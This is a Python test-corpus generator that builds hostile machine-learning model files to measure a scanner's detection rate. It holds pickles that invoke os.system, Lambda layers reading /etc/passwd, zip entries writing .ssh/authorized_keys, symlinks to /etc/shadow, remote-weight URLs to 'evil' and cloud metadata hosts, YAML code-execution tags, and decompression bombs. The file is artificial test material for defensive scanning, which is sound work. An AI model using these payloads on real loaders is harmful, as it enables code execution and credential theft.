"""Hostile files of further kinds, made by an attacker's eye after the tables: what each batch found missing is mended.

Flagged when first tried: 112 of 139 of the first batch, 74 of 100 of the second.
"""

# ruff: noqa: F821
from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import os
import pickle
import struct
import zipfile
import zlib
from pathlib import Path

import h5py
import numpy as np

import hostile as H
from hostile import (
    CANARY,
    Make,
    as_bytes,
    as_h5,
    as_keras,
    field,
    function,
    graph_def,
    keras_zip,
    lambda_layer,
    layer,
    legacy,
    pickled,
    sequential,
    stored,
    thing,
    weights,
)

F: dict[str, Make] = {}


def add(name):
    def deco(make):
        F[name] = make
        return make

    return deco


def code(name, f):
    F["code_keras_" + name] = as_keras(sequential(lambda_layer(stored(f))))
    F["code_h5_" + name] = as_h5(sequential(lambda_layer(stored(f))))


code("format", lambda x: f"{x.__class__.__init__.__globals__}")
code("npsystem", lambda x: np.lib.npyio.os.system("touch canary"))
code("tofile", lambda x: x.numpy().tofile("/tmp/canary"))
code("fromfile", lambda x: np.fromfile("/etc/passwd"))
code("memmap", lambda x: np.memmap("/tmp/canary", mode="w+", shape=(1,)))
code("fileprint", lambda x: tf.print(x, output_stream="file:///tmp/canary"))
code("profiler", lambda x: tf.profiler.experimental.start("/tmp/canary"))
code("writer", lambda x: tf.summary.create_file_writer("/tmp/canary"))
code("textdata", lambda x: tf.data.TextLineDataset("/etc/passwd"))
code("selfprint", lambda x: print.__self__.exec("1"))
code("mapeval", lambda x: [*map(eval, ["1"])] and x)
code("vars", lambda x: vars()["x"])
code("ctypeslib", lambda x: np.ctypeslib.load_library("evil", "."))
code("server", lambda x: tf.distribute.Server({"a": ["0.0.0.0:1"]}))
code("kerasload", lambda x: keras.models.load_model("/tmp/evil.keras")(x))
code("f2py", lambda x: np.f2py.compile("x"))
code("dump", lambda x: x.dump("/tmp/canary"))
FIRST_NAMES = [
    ("_posixsubprocess", "fork_exec"),
    ("_io", "FileIO"),
    ("zipimport", "zipimporter"),
    ("concurrent.futures", "ProcessPoolExecutor"),
    ("xmlrpc.client", "ServerProxy"),
    ("smtplib", "SMTP"),
    ("ftplib", "FTP"),
    ("cProfile", "run"),
    ("doctest", "testfile"),
    ("unittest", "main"),
    ("pydoc", "pipepager"),
    ("sys", "settrace"),
    ("linecache", "getline"),
    ("shelve", "open"),
    ("h5py", "File"),
    ("scipy.io", "loadmat"),
    ("transformers", "AutoModel.from_pretrained"),
    ("huggingface_hub", "snapshot_download"),
    ("kagglehub", "model_download"),
    ("mlflow.pyfunc", "load_model"),
    ("paramiko", "SSHClient"),
    ("fsspec", "open"),
    ("sympy", "sympify"),
    ("pandas", "eval"),
    ("nltk", "download"),
    ("lxml.etree", "parse"),
    ("gc", "get_objects"),
    ("threading", "Thread"),
    ("signal", "signal"),
    ("atexit", "register"),
    ("PIL.Image", "open"),
    ("matplotlib.pyplot", "savefig"),
    ("wandb", "init"),
    ("gdown", "download"),
    ("tensorflow.python.ops.script_ops", "py_func"),
    ("keras.src.export.saved_model", "ExportArchive"),
    ("keras.src.saving.file_editor", "KerasFileEditor"),
]
for m, n in FIRST_NAMES:
    F[f"name_{m}_{n}".replace(".", "_")] = as_keras(sequential(thing(m, n, {"name": "x"})))


def bad():
    return thing("os", "system", {"command": CANARY})


F["in_compile"] = as_keras(
    {
        **sequential(),
        "compile_config": {"optimizer": thing("keras.optimizers", "Adam", {"learning_rate": bad()}), "loss": "mse"},
    }
)
F["in_inbound"] = as_keras(
    {
        "module": "keras",
        "class_name": "Functional",
        "registered_name": "Functional",
        "config": {
            "name": "m",
            "layers": [
                {
                    "module": "keras.layers",
                    "class_name": "InputLayer",
                    "config": {"batch_shape": [None, 4], "name": "i"},
                    "name": "i",
                    "inbound_nodes": [],
                },
                {
                    "module": "keras.layers",
                    "class_name": "Dense",
                    "config": {"name": "d", "units": 4},
                    "name": "d",
                    "inbound_nodes": [
                        {
                            "args": [{"class_name": "__keras_tensor__", "config": {"keras_history": ["i", 0, 0]}}],
                            "kwargs": {"mask": bad()},
                        }
                    ],
                },
            ],
            "input_layers": [["i", 0, 0]],
            "output_layers": [["d", 0, 0]],
        },
    }
)
F["in_typespec"] = as_keras(
    sequential(
        layer(
            "Dense",
            {
                "name": "d",
                "units": 4,
                "x": {
                    "class_name": "__typespec__",
                    "module": "os",
                    "spec_name": "system",
                    "config": CANARY,
                    "registered_name": None,
                },
            },
        )
    )
)
F["in_dtype"] = as_keras(
    sequential(layer("Dense", {"name": "d", "units": 4, "dtype": thing("subprocess", "Popen", {"args": "x"})}))
)
F["output_shape_module"] = as_h5(
    sequential(
        layer(
            "Lambda",
            {
                "name": "l",
                "function": "relu",
                "function_type": "function",
                "module": "keras.activations",
                "output_shape": "system",
                "output_shape_type": "function",
                "output_shape_module": "os",
            },
        )
    )
)
F["registered_sub"] = as_keras(sequential(thing("my.layers", "Mine", {}, "builtins>eval")))
F["merges"] = as_keras(
    sequential(
        thing(
            "keras_hub.tokenizers",
            "BytePairTokenizer",
            {"vocabulary": None, "merges": "/etc/passwd"},
            "keras_hub>BytePairTokenizer",
        )
    )
)
F["tfsm_unc"] = as_keras(
    sequential(layer("TFSMLayer", {"name": "t", "filepath": "\\\\10.0.0.1\\share\\m", "call_endpoint": "serve"}))
)
F["csvlogger"] = as_keras({**sequential(), "callbacks": [thing("keras.callbacks", "CSVLogger", {"filename": "/tmp/canary"})]})
F["weights_url"] = as_keras(sequential(thing("keras.applications.vgg16", "VGG16", {"weights": "http://evil/x.h5"})))
F["numpy_bomb"] = as_keras(
    sequential(
        layer(
            "Embedding",
            {"name": "d", "input_dim": 1, "embeddings_initializer": thing("numpy", "fromfile", {"file": "/etc/passwd"})},
        )
    )
)


def zmember(name, data=b"{}", mode=0, method=zipfile.ZIP_STORED, extra=b"", flag=0):
    i = zipfile.ZipInfo(name)
    i.external_attr = mode << 16
    i.compress_type = method
    i.extra = extra
    return i, data


def zfile(*ms):
    return as_bytes(
        H._zip(
            [
                ("metadata.json", b'{"keras_version":"3.10.0"}'),
                ("config.json", json.dumps(sequential()).encode()),
                ("model.weights.h5", weights()),
                *ms,
            ]
        ),
        ".keras",
    )


F["zip_ads"] = zfile(zmember("assets/x.txt:evil.exe"))
F["zip_reserved"] = zfile(zmember("assets/CON"))
F["zip_setuid"] = zfile(zmember("assets/run", b"x", 0o104755))
F["zip_fifo"] = zfile(zmember("assets/pipe", b"", 0o010644))
F["zip_dev"] = zfile(zmember("assets/dev", b"", 0o060644))
F["zip_unicode_path"] = zfile(
    zmember("assets/a", b"x", extra=struct.pack("<HHBI", 0x7075, 5 + 9, 1, zlib.crc32(b"assets/a")) + b"../../evil"[:9])
)
F["zip_dotspace"] = zfile(zmember("assets/.. /x"))
F["zip_py"] = zfile(zmember("assets/__init__.py", b"import os"))
F["zip_link_dir"] = zfile(zmember("assets", b"/etc", 0o120777))


def enc():
    d = bytearray(H._zip([("config.json", b"{}"), ("model.weights.h5", weights())]))
    for sig, o in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        i = d.find(sig)
        d[i + o] |= 1
    return bytes(d)


F["zip_encrypted"] = as_bytes(enc(), ".keras")


def meth():
    d = bytearray(H._zip([("config.json", b"{}")]))
    for sig, o in ((b"PK\3\4", 8), (b"PK\1\2", 10)):
        i = d.find(sig)
        d[i + o] = 99
    return bytes(d)


F["zip_method99"] = as_bytes(meth(), ".keras")
F["zip_bom16"] = as_bytes(
    H._zip(
        [
            ("metadata.json", b"{}"),
            ("config.json", json.dumps(sequential(bad())).encode("utf-16")),
            ("model.weights.h5", weights()),
        ]
    ),
    ".keras",
)
F["zip_case"] = as_bytes(
    H._zip(
        [
            ("config.json", json.dumps(sequential()).encode()),
            ("CONFIG.JSON", json.dumps(sequential(bad())).encode()),
            ("model.weights.h5", weights()),
        ]
    ),
    ".keras",
)


def overlap():
    d = H._zip([("config.json", b'{"a":1}'), ("b.json", b'{"b":1}')])
    i = d.find(b"PK\1\2", d.find(b"PK\1\2") + 1)
    d = bytearray(d)
    d[i + 42 : i + 46] = b"\0\0\0\0"
    return bytes(d)


F["zip_overlap"] = as_bytes(overlap(), ".keras")
F["weights_vds"] = as_keras(
    sequential(),
    extra={
        "model.weights.h5": (
            lambda: (lambda b: (H._virtual(f := h5py.File(b, "w")), f.close(), b.getvalue())[2])(io.BytesIO())
        )()
    },
)
F["h5_filter"] = H._h5(
    lambda f: f.create_dataset("model_weights/x", (4,), "float32", chunks=(4,), compression=32015, allow_unknown_filter=True)
)
F["h5_script_block"] = as_bytes(b"#!/bin/sh\ntouch canary\nexit\n".ljust(512, b"\0") + weights(), ".h5")


def dotdot(f):
    f["model_weights"].attrs["layer_names"] = np.array([b"../../../../tmp/x"])


F["h5_ref_loop"] = H._h5(lambda f: f.__setitem__("model_weights/loop", f["model_weights"]))
F["h5_ext_in_opt"] = H._h5(
    lambda f: f.create_group("optimizer_weights").__setitem__("a", h5py.ExternalLink("//10.0.0.1/share/x.h5", "/"))
)
F["npy_evil_header"] = as_bytes(
    b"\x93NUMPY\x01\x00"
    + struct.pack("<H", 118)
    + b"{'descr': __import__('os').system('x'), 'fortran_order': False, 'shape': (1,)}".ljust(117)
    + b"\n"
    + b"\0" * 8,
    ".npy",
)


def npz_up():
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w") as z:
        z.writestr(
            "../x.npy",
            b"\x93NUMPY\x01\x00"
            + struct.pack("<H", 118)
            + b"{'descr': '<f4', 'fortran_order': False, 'shape': (1,)}".ljust(117)
            + b"\n"
            + b"\0" * 4,
        )
    return b.getvalue()


F["npz_up"] = as_bytes(npz_up(), ".npz")
F["keras_npz_pickle"] = as_keras(
    sequential(), weights_name="model.weights.npz", extra={"model.weights.npz": H._npz(pickled("os", "system"))}
)
F["pickle5_memo"] = as_bytes(b"\x80\x05\x8c\x02os\x94\x8c\x06system\x94\x93\x94\x8c\x01x\x85R.", ".pkl")
F["pickle_memo_tricks"] = as_bytes(b"\x80\x04\x8c\x06system\x94\x8c\x05posix\x94h\x01h\x00\x93\x8c\x01x\x85R.", ".pkl")
F["pickle_partial"] = as_bytes(b"cfunctools\npartial\n(cos\nsystem\nS'x'\ntR.", ".pkl")
F["pickle_attrgetter"] = as_bytes(b"coperator\nattrgetter\n(S'system'\ntR(cbuiltins\n__import__\n(S'os'\ntRtR.", ".pkl")
F["pickle_codetype"] = as_bytes(b"ctypes\nFunctionType\n(ctypes\nCodeType\ntR.", ".pkl")
F["pickle_gz"] = as_bytes(gzip.compress(pickled("os", "system")), ".pkl.gz")
F["pickle_bz2"] = as_bytes(bz2.compress(pickled("os", "system")), ".pkl.bz2")
F["pickle_xz"] = as_bytes(lzma.compress(pickled("os", "system")), ".pkl.xz")
F["pickle_zlib"] = as_bytes(zlib.compress(pickled("os", "system")), ".joblib")
F["pickle_ext"] = as_bytes(b"\x80\x02\x82\x01)R.", ".pkl")
F["pickle_tokenizer"] = as_bytes(b"ckeras_preprocessing.text\nTokenizer\n)\x81}(S'word_index'\ncos\nsystem\nub.", ".pickle")
F["pickle_nested"] = as_bytes(pickle.dumps({"a": pickled("os", "system", 4)}), ".pkl")
F["torch_pt"] = as_bytes(H._zip([("archive/data.pkl", pickled("os", "system", 4)), ("archive/version", b"3")]), ".keras")
F["gz_keras"] = as_bytes(gzip.compress(keras_zip(sequential(bad()))), ".keras.gz")
F["bz2_keras"] = as_bytes(bz2.compress(keras_zip(sequential(bad()))), ".keras.bz2")
F["yaml_laughs"] = as_bytes(
    (
        "a: &a [x,x,x,x,x,x,x,x,x]\n"
        + "".join(f"{c}: &{c} [{','.join(['*' + p] * 9)}]\n" for p, c in zip("abcdefgh", "bcdefghi", strict=True))
        + "class_name: Sequential\nconfig: *i\n"
    ).encode(),
    ".yaml",
)
F["yaml_second_doc"] = as_bytes(b"class_name: Sequential\nconfig: []\n---\n!!python/object/apply:os.system ['x']\n", ".yaml")
F["tfjs_paths"] = as_bytes(
    json.dumps(
        {
            "format": "layers-model",
            "modelTopology": {"model_config": sequential()},
            "weightsManifest": [
                {"paths": ["../../../etc/passwd"], "weights": [{"name": "d/kernel", "shape": [1], "dtype": "float32"}]}
            ],
        }
    ).encode(),
    ".json",
)
F["tfjs_url"] = as_bytes(
    json.dumps(
        {
            "format": "layers-model",
            "modelTopology": {"model_config": sequential()},
            "weightsManifest": [{"paths": ["http://169.254.169.254/latest"], "weights": []}],
        }
    ).encode(),
    ".json",
)
F["tfjs_lambda"] = as_bytes(
    json.dumps(
        {
            "format": "layers-model",
            "modelTopology": {"model_config": legacy(sequential(lambda_layer(stored(dict(H._payloads())["import_os"]))))},
            "weightsManifest": [],
        }
    ).encode(),
    ".json",
)
F["tfjs_graph"] = as_bytes(
    json.dumps(
        {
            "format": "graph-model",
            "modelTopology": {"node": [{"name": "x", "op": "WriteFile", "input": ["a", "b"]}]},
            "weightsManifest": [],
        }
    ).encode(),
    ".json",
)
for op in (
    "FileSystemSetConfiguration",
    "GcsConfigureCredentials",
    "SnapshotChunkDataset",
    "SnapshotDatasetReader",
    "DumpTensor",
    "CalibrationStatisticsSaver",
    "RecordInput",
    "RpcServerStart",
):
    F["graph_" + op] = H._saved_model(graph_def(op))
F["graph_proto_file"] = H._saved_model(
    field(
        1,
        field(1, b"p")
        + field(2, b"DecodeProtoV2")
        + field(5, field(1, b"descriptor_source") + field(2, field(2, b"/etc/evil.pb"))),
    )
)


@add("saved_pbtxt")
def _(p):
    p.mkdir()
    (p / "saved_model.pbtxt").write_text(
        'saved_model_schema_version: 1\nmeta_graphs { graph_def { node { name: "a" op: "PyFunc" } } }'
    )


F["frozen_pb"] = as_bytes(graph_def("WriteFile") + graph_def("Const"), ".pb")
F["meta_graph"] = as_bytes(field(1, field(4, b"train")) + field(2, graph_def("PyFunc")), ".meta")


@add("sm_metadata_tfsm")
def _(p):
    H._saved_model(graph_def("Const"), json.dumps({"class_name": "TFSMLayer", "config": {"filepath": "/evil"}}))(p)


@add("folder_py")
def _(p):
    p.mkdir()
    (p / "config.json").write_text(json.dumps(sequential()))
    (p / "metadata.json").write_text('{"keras_version":"3.10.0"}')
    (p / "model.weights.h5").write_bytes(weights())
    (p / "modeling_evil.py").write_text("import os")


@add("folder_weights_link")
def _(p):
    p.mkdir()
    (p / "config.json").write_text(json.dumps(sequential()))
    (p / "metadata.json").write_text('{"keras_version":"3.10.0"}')
    (p / "model.weights.h5").symlink_to("/etc/passwd")


@add("folder_fifo")
def _(p):
    p.mkdir()
    (p / "config.json").write_text(json.dumps(sequential()))
    os.mkfifo(p / "model.weights.h5")


# -- the second batch

FNS = {
    "dumpdbg": lambda x: tf.debugging.experimental.enable_dump_debug_info("/tmp/canary"),
    "lite": lambda x: tf.lite.Interpreter("/tmp/evil.tflite"),
    "session": lambda x: tf.Session("grpc://evil:2222"),
    "csvlog": lambda x: tf.keras.callbacks.CSVLogger("/tmp/canary"),
    "loadimg": lambda x: keras.preprocessing.image.load_img("/etc/hostname"),
    "saveimg": lambda x: keras.preprocessing.image.save_img("/tmp/canary", x),
    "dataset": lambda x: keras.datasets.mnist.load_data(),
    "vgg": lambda x: keras.applications.VGG16(weights="/tmp/evil.h5"),
    "plot": lambda x: keras.utils.plot_model(x, "canary.png"),
    "savem": lambda x: keras.saving.save_model(x, "canary.keras"),
    "openmm": lambda x: np.lib.format.open_memmap("canary", "w+", shape=(1,)),
    "recff": lambda x: np.rec.fromfile("/etc/hostname"),
    "datasource": lambda x: np.lib.npyio.DataSource().open("http://evil/x"),
    "iocb": lambda x: jax.experimental.io_callback(x, x),
    "purecb": lambda x: jax.pure_callback(x, x),
    "profsrv": lambda x: jax.profiler.start_server(9999),
    "torchload": lambda x: torch.load("evil.pt"),
    "hub": lambda x: torch.hub.load("evil/evil", "m"),
    "kdata": lambda x: keras.utils.data_utils.urlretrieve("http://evil", "canary"),
    "extract": lambda x: keras.src.utils.file_utils.extract_archive("x.tar"),
    "rawwrite": lambda x: tf.raw_ops.WriteFile(filename="canary", contents="x"),
    "subscripts": lambda x: ().__class__.__mro__[1].__subclasses__()[132].__init__.__globals__["system"]("touch canary"),
    "traceback_": lambda x: x.with_traceback(None).__traceback__.tb_frame.f_back,
    "setitem": lambda x: K.__dict__.__setitem__("relu", x),
    "tfmodule": lambda x: tf.python.platform.gfile.GFile("canary", "w"),
}
for n, f in FNS.items():
    F["code_" + n] = as_keras(sequential(lambda_layer(stored(f))))
SECOND_NAMES = [
    ("tensorflow.python.platform.gfile", "GFile"),
    ("tensorflow.raw_ops", "WriteFile"),
    ("jax.experimental", "io_callback"),
    ("torch.jit", "load"),
    ("onnxruntime", "InferenceSession"),
    ("tflite_runtime.interpreter", "Interpreter"),
    ("xgboost", "Booster"),
    ("numpy.lib.format", "open_memmap"),
    ("skops.io", "load"),
    ("imageio", "imread"),
    ("openpyxl", "load_workbook"),
    ("zipfile", "ZipFile"),
    ("gzip", "open"),
    ("mmap", "mmap"),
    ("fcntl", "ioctl"),
    ("pathlib", "Path"),
    ("tempfile", "NamedTemporaryFile"),
    ("logging", "FileHandler"),
    ("site", "addsitedir"),
    ("pkgutil", "walk_packages"),
    ("types", "CodeType"),
    ("glob", "glob"),
    ("csv", "reader"),
    ("ssl", "create_default_context"),
    ("keras.src.utils.summary_utils", "print_summary"),
    ("keras.src.trainers.data_adapters.py_dataset_adapter", "PyDataset"),
    ("keras.src.utils.model_visualization", "plot_model"),
    ("evil_pkg.sub", "__import__"),
    ("redis", "Redis"),
    ("psycopg2", "connect"),
    ("docker", "from_env"),
    ("ansible.module_utils.basic", "AnsibleModule"),
    ("selenium.webdriver", "Chrome"),
    ("pyautogui", "press"),
]
for m, n in SECOND_NAMES:
    F[f"name_{m}_{n}".replace(".", "_")] = (
        as_keras(sequential(thing(m, n, {"name": "x"})))
        if len(n) % 2
        else as_keras(sequential(layer("Dense", {"name": "d", "units": 2, "activation": function(m, n)})))
    )
F["in_build"] = as_keras(sequential(layer("Dense", {"name": "d", "units": 4}, build_config={"input_shape": bad()})))
F["function_dict"] = as_keras(
    sequential(
        layer(
            "Dense",
            {
                "name": "d",
                "units": 4,
                "activation": {
                    "class_name": "function",
                    "module": "builtins",
                    "config": {"module": "os", "name": "system"},
                    "registered_name": "system",
                },
            },
        )
    )
)
F["wrapped_ragged"] = as_keras(
    sequential(layer("TimeDistributed", {"name": "t", "layer": layer("Wrapper", {"name": "w", "layer": bad()})}))
)
F["metrics_fn"] = as_keras(
    {
        **sequential(),
        "compile_config": {
            "optimizer": "adam",
            "loss": "mse",
            "metrics": [[{"class_name": "function", "module": "webbrowser", "config": "open", "registered_name": "open"}]],
        },
    }
)
F["zip_authorized"] = zfile(zmember("assets/../../.ssh/authorized_keys", b"ssh-rsa"))
F["zip_bashrc"] = zfile(zmember("/root/.bashrc", b"x"))
F["zip_many"] = as_bytes(H._zip([("config.json", b"{}")] + [(f"a/{i}", b"") for i in range(21000)]), ".keras")
F["zip_mz"] = as_bytes(b"MZ" + bytes(510) + keras_zip(sequential()), ".keras")


def deflb():
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("metadata.json", "{}")
        z.writestr("config.json", b"[" * (80 << 20))
        z.writestr("model.weights.h5", weights())
    return b.getvalue()


F["zip_config_bomb"] = as_bytes(deflb(), ".keras")
F["h5_wide"] = H._h5(lambda f: f.create_dataset("model_weights/s", (2,), "S1000000000", chunks=(1,)))
F["h5_config_dataset"] = H._h5(
    lambda f: f.__setitem__(
        "model_config", json.dumps(legacy(sequential(lambda_layer(stored(dict(H._payloads())["import_os"])))))
    )
)


def chunks(f):
    t = json.dumps(legacy(sequential(lambda_layer(stored(dict(H._payloads())["import_os"])))))
    del f.attrs["model_config"]
    for i in range(0, len(t), 100):
        f.attrs[f"model_config{i // 100}"] = t[i : i + 100]


F["h5_config_chunks"] = H._h5(chunks)
F["h5_training"] = H._h5(
    lambda f: f.attrs.__setitem__(
        "training_config",
        json.dumps({"loss": {"class_name": "function", "module": "os", "config": "system"}, "optimizer_config": {}}),
    )
)
F["h5_weights_ext"] = as_bytes(
    (
        lambda b: (
            lambda f: (
                f.create_dataset("layers/dense/vars/0", (4,), "f4", external=[("/etc/passwd", 0, 16)]),
                f.close(),
                b.getvalue(),
            )[2]
        )(h5py.File(b, "w"))
    )(io.BytesIO()),
    ".weights.h5",
)
F["h5_committed_ext"] = H._h5(
    lambda f: f["model_weights"].__setitem__("dense2", h5py.ExternalLink("../../../../etc/shadow", "model"))
)
# pickles
F["pickle_reduce"] = as_bytes(b"cfunctools\nreduce\n(cbuiltins\neval\n(S'1'\nltR.", ".pkl")
F["pickle_map"] = as_bytes(b"cbuiltins\nlist\n(cbuiltins\nmap\n(cbuiltins\neval\n(S'1'\nltRtR.", ".pkl")
F["pickle_torchstore"] = as_bytes(b"ctorch.storage\n_load_from_bytes\n(S'x'\ntR.", ".pkl")
F["pickle_dill"] = as_bytes(b"cdill._dill\n_create_function\n(S'x'\ntR.", ".pkl")
F["pickle_cloud"] = as_bytes(b"ccloudpickle.cloudpickle\n_make_function\n(S'x'\ntR.", ".pkl")
F["pickle_path"] = as_bytes(b"cpathlib\nPath.write_text\n(S'x'\ntR.", ".pkl")


class _M:  # a genuine form: _unpickle_model(BytesIO(zip))
    def __reduce__(self):
        return (io.BytesIO, (keras_zip(sequential(bad())),))


F["pickle_keras_inside"] = as_bytes(pickle.dumps(_M()), ".pkl")
F["joblib_lz4"] = as_bytes(zlib.compress(pickle.dumps([1] * 1000) + pickled("subprocess", "Popen", 4), 9), ".joblib")
F["pickle_gz2"] = as_bytes(gzip.compress(bz2.compress(pickled("os", "popen"))), ".pkl")


# SavedModel
@add("sm_asset_up")
def _(p):
    p.mkdir()
    asset = field(1, field(1, b"Const:0")) + field(2, b"../../../../etc/passwd")
    meta = field(1, field(4, b"serve")) + field(2, graph_def("Const")) + field(6, asset)
    (p / "saved_model.pb").write_bytes(b"\x08\x01" + field(2, meta))


@add("sm_variables_link")
def _(p):
    H._saved_model(graph_def("Const"))(p)
    (p / "variables").mkdir()
    (p / "variables" / "variables.index").symlink_to("/etc/passwd")


@add("sm_library")
def _(p):
    p.mkdir()
    fn = field(1, field(1, b"f")) + field(3, field(1, b"n") + field(2, b"ReadFile"))
    g = field(2, field(1, fn))
    (p / "saved_model.pb").write_bytes(b"\x08\x01" + field(2, field(1, field(4, b"serve")) + field(2, g)))


@add("sm_so")
def _(p):
    H._saved_model(graph_def("Const"))(p)
    (p / "assets.extra").mkdir()
    (p / "assets.extra" / "ops.so").write_bytes(b"\x7fELF")


F["tfjs_abs"] = as_bytes(
    json.dumps(
        {
            "format": "layers-model",
            "modelTopology": {"model_config": sequential()},
            "weightsManifest": [{"paths": ["/etc/passwd"], "weights": []}],
        }
    ).encode(),
    ".json",
)
F["tfjs_string"] = as_bytes(
    json.dumps(
        {"format": "layers-model", "modelTopology": json.dumps({"model_config": sequential(bad())}), "weightsManifest": []}
    ).encode(),
    ".json",
)
F["yaml_getfile"] = as_bytes(
    b"class_name: Sequential\nconfig: !!python/object/apply:keras.utils.get_file ['x','http://evil/x']\n", ".yaml"
)
F["yaml_short"] = as_bytes(b"class_name: Sequential\nconfig: !<tag:yaml.org,2002:python/name:os.system> ''\n", ".yaml")
F["shard_map"] = as_bytes(
    json.dumps({"metadata": {"total_size": 1}, "weight_map": {"/layers/dense/vars": "../../../etc/passwd"}}).encode(), ".json"
)


@add("preset_task")
def _(p):
    p.mkdir()
    (p / "task.json").write_text(json.dumps(sequential(bad())))
    (p / "config.json").write_text(json.dumps(sequential()))
    (p / "metadata.json").write_text('{"keras_version":"3.10.0"}')


@add("folder_pyc")
def _(p):
    p.mkdir()
    (p / "config.json").write_text(json.dumps(sequential()))
    (p / "metadata.json").write_text("{}")
    (p / "__pycache__").mkdir()
    (p / "__pycache__" / "x.cpython-311.pyc").write_bytes(b"x")


@add("folder_config_link")
def _(p):
    p.mkdir()
    (p / "config.json").symlink_to("/etc/passwd")
    (p / "metadata.json").write_text("{}")


F["meta_debug"] = as_bytes(field(2, graph_def("EagerPyFunc")), ".meta")
F["pbtxt_file"] = as_bytes(b'node {\n  name: "w"\n  op: "WriteFile"\n}\n', ".pbtxt")
F["vocab_env"] = as_keras(sequential(layer("StringLookup", {"name": "s", "vocabulary": "$HOME/.ssh/id_rsa"})))
F["idf_unc"] = as_keras(
    sequential(layer("TextVectorization", {"name": "s", "vocabulary": ["a"], "idf_weights": "\\\\evil\\x"}))
)
F["name_null"] = as_keras(sequential(layer("Dense", {"name": "../../x", "units": 1})))


def make_further(folder: Path) -> list[Path]:
    """Write every file into `folder`; their paths."""
    for name, make in F.items():
        make(folder / name)
    return sorted(folder.iterdir())
